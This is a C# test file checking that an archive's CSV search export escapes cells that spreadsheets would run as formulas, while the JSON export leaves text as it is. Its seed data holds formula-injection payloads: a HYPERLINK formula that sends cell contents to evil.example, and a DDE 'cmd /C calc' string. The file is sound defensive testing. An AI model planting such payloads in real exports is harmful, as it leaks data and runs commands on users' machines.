using System.Net;
using CsvHelper;

namespace Archive.Web.Tests.Search;

/// <summary>Pen-test row 2: scraped text never reaches a spreadsheet as a formula.</summary>
[Collection(ArchiveApp.Collection)]
public sealed class CsvExportSafetyTests(ArchiveAppFactory app)
{
    [Fact]
    public async Task Cells_that_a_spreadsheet_would_run_as_formulas_are_exported_as_readable_text()
    {
        const string title = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"x\")";
        var outlet = await app.AddOutletAsync($"@SUM(1+1)*cmd|' /C calc'!A0 {Guid.NewGuid():N}");
        await app.AddArticleAsync(new ArticleBuilder().Titled(title).From(outlet)
            .WithParagraphs("+fórmulacsvxq en el primer párrafo", "-menos", "\tcon tabulador"));
        await app.WaitForSearchIndexAsync();

        using var response = await app.CreateClient().GetAsync("/api/search/export?format=csv&q=f%C3%B3rmulacsvxq");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        using var csv = CsvReader.Create(await response.Content.ReadAsByteArrayAsync(), new CsvReaderOptions { AllowLineBreaksInQuotes = true });
        csv.ReadHeader();
        var headers = csv.Headers.ToArray();
        var rows = new List<Dictionary<string, string>>();
        while (csv.Read())
            rows.Add(headers.ToDictionary(h => h, h => csv.GetString(h)));
        var row = Assert.Single(rows);
        foreach (var (column, cell) in row)
        {
            Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r', $"{column} starts with a formula character: {cell}");
        }
        Assert.Equal("'" + title, row["title"]);
        Assert.Equal("'" + outlet.Name, row["outlet"]);
        Assert.StartsWith("'+fórmulacsvxq", row["text"], StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_json_export_keeps_the_text_as_it_is()
    {
        var outlet = await app.AddOutletAsync($"Json intacto {Guid.NewGuid():N}");
        await app.AddArticleAsync(new ArticleBuilder().Titled("=1+1 jsonintactoxq").From(outlet).WithParagraphs("jsonintactoxq"));
        await app.WaitForSearchIndexAsync();

        var json = System.Text.Json.JsonDocument.Parse(await app.CreateClient().GetStringAsync("/api/search/export?format=json&q=jsonintactoxq"));

        Assert.Equal("=1+1 jsonintactoxq", Assert.Single(json.RootElement.EnumerateArray()).GetProperty("title").GetString());
    }
}
